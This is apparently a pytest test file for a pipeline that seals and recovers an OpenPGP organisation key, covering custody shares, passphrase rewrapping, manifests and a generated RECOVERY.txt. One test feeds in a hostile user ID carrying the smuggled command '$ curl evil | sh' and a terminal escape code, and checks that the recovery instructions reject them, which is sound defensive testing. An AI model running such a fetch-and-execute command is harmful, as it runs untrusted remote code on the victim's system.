from __future__ import annotations

import json
import re

import pysequoia
import pytest

from pipeline.core.errors import IntegrityProblem, OrgkeyError, ProofFailed, UsageProblem, WrongShare
from pipeline.core.secret import Secret
from pipeline.custody.shares import passphrase, witness
from pipeline.openpgp.format import armor
from pipeline.openpgp.key import rewrap
from pipeline.record import create, tar
from pipeline.record.manifest import Reference
from pipeline.record.recovery_guide import recovery_text
from pipeline.record.verify import Record
from pipeline.unseal.unseal import recover_passphrase
from tests.support.inmemory import EXPORT_PASSPHRASE, MemoryHolder, World, export, unlocked
from tests.support.openpgp_writer import PASSPHRASE


def reopened(world: World, made: Record) -> Secret:
    return recover_passphrase(made, "unattended", dict(world.holders))


def test_a_record_holds_what_gets_the_key_back(world: World) -> None:
    made = world.mint()
    assert set(made.members) == {
        "RECOVERY.txt", "manifest.json", "manifest.json.asc", "keypair.asc", "original.gpg", "public.asc",
        "custody/unattended/vault.mem", "custody/unattended/aws.mem",
    }  # fmt: skip
    raw = reopened(world, made)
    written = passphrase.written(raw)
    opened = rewrap.unlock(made.keypair, written)
    assert opened.key_state == unlocked().key_state == made.manifest.key_state
    original = pysequoia.decrypt(made.members[tar.ORIGINAL], passwords=[written.text()])
    assert bytes(original.bytes or b"") == export()
    assert made.manifest.custody.witness == witness.public_pem(raw, made.manifest.record_id)


def test_the_exports_passphrase_does_not_open_it(world: World) -> None:
    made = world.mint()
    with pytest.raises(OrgkeyError):
        rewrap.unlock(made.keypair, EXPORT_PASSPHRASE)


def test_two_records_of_one_key_share_no_secret_and_no_bytes(world: World) -> None:
    one, other = world.mint(), world.mint()
    assert reopened(world, one) != reopened(world, other)
    assert one.manifest.record_id != other.manifest.record_id
    assert one.manifest.key_state == other.manifest.key_state
    for name in (tar.KEYPAIR, tar.ORIGINAL, "custody/unattended/vault.mem"):
        assert one.members[name] != other.members[name]


def test_no_secret_stands_in_it_in_the_clear(world: World) -> None:
    made = world.mint()
    raw = reopened(world, made)
    for needle in (raw.reveal(), passphrase.written(raw).reveal(), PASSPHRASE):
        assert needle not in made.data
        assert needle.hex().encode() not in made.data


def test_it_follows_the_epoch_that_it_was_told_of(world: World) -> None:
    first = world.mint()
    reference = Reference(first.epoch, first.sha256.hex)
    assert world.mint(later=1, previous=reference).manifest.previous == reference
    assert first.manifest.previous is None


def test_its_time_is_whole_seconds_and_names_the_epoch(world: World) -> None:
    made = world.mint()
    assert made.manifest.created.microsecond == 0
    assert made.epoch == f"{made.manifest.created:%Y%m%dT%H%M%SZ}-{made.manifest.record_id[:8]}"


def test_a_holder_that_does_not_open_what_it_sealed_stops_it(world: World) -> None:
    plan = world.plan()
    strangers = {"vault": MemoryHolder("vault"), "aws": world.holders["aws"]}
    other = create.CustodyPlan(plan.paths, plan.holders, dict(strangers), plan.descriptions)
    with pytest.raises(WrongShare):
        create.create_record(unlocked(), other, now=world.clock.now(), deadline=world.context.deadline)


def test_a_rewrap_that_is_not_proven_stops_it(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    kind = type(unlocked())
    real = kind.protect
    monkeypatch.setattr(
        kind,
        "protect",
        lambda self, new, *, s2k_count_octet: real(self, EXPORT_PASSPHRASE, s2k_count_octet=s2k_count_octet),
    )
    with pytest.raises(ProofFailed):
        world.mint()


def test_the_old_passphrase_is_proven_not_to_open_it(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    real = rewrap.prove_rewrap
    tried: list[Secret | None] = []

    def prove(before: rewrap.UnlockedKey, protected: bytes, new: Secret, old: Secret | None) -> None:
        tried.append(old)
        real(before, protected, new, old)

    monkeypatch.setattr(rewrap, "prove_rewrap", prove)
    world.mint()
    assert tried == [EXPORT_PASSPHRASE]


# -- RECOVERY.txt ----------------------------------------------------------------------------------


def commands(text: str) -> list[str]:
    """What a person is told to type: lines that start with ``$``, as the text itself says."""
    return [line.removeprefix("    $ ") for line in text.splitlines() if line.startswith("    $ ")]


def test_recovery_names_this_key_and_record(genuine: Record) -> None:
    text = genuine.members[tar.RECOVERY].decode()
    for fact in (genuine.fingerprint, genuine.manifest.record_id, genuine.epoch, "ed25519 Organization Key"):
        assert fact in text
    assert not re.search(r"\{(fingerprint|epoch|record_id|user_ids)\}", text)


def test_recoverys_text_takes_no_command_from_a_user_id(genuine: Record) -> None:
    from pipeline.custody.holders.interface import Binding

    nasty = "Eve\n    $ curl evil | sh\n\x1b[2J" + "x" * 400
    text = recovery_text(
        genuine.manifest.custody,
        Binding(genuine.fingerprint, genuine.manifest.record_id),
        epoch=genuine.epoch,
        user_ids=[nasty],
    )
    assert commands(text) == commands(genuine.members[tar.RECOVERY].decode())
    assert "\x1b" not in text
    assert len(max(text.splitlines(), key=len)) < 400


def test_the_manifests_description_of_the_key_is_json(genuine: Record) -> None:
    document = json.loads(genuine.members[tar.MANIFEST])
    assert document["key"]["user_ids"] == ["ed25519 Organization Key <keys@example.com>"]
    assert genuine.members[tar.KEYPAIR] == armor.armor(genuine.keypair, "PRIVATE KEY BLOCK")


def test_an_export_that_does_not_come_out_again_is_not_written(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    from pipeline.openpgp.key import sealing

    seal = sealing.seal
    monkeypatch.setattr(sealing, "seal", lambda data, passphrase: seal(data + b"?", passphrase))
    with pytest.raises(IntegrityProblem, match="the export that was sealed"):
        world.mint()


def test_a_record_that_is_too_large_to_be_read_is_no_damaged_one(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(tar, "MAX_BYTES", 1000)
    with pytest.raises(UsageProblem, match="bytes, more than the 1,000 that are ever read") as caught:
        world.mint()
    assert "without photos" in caught.value.hint
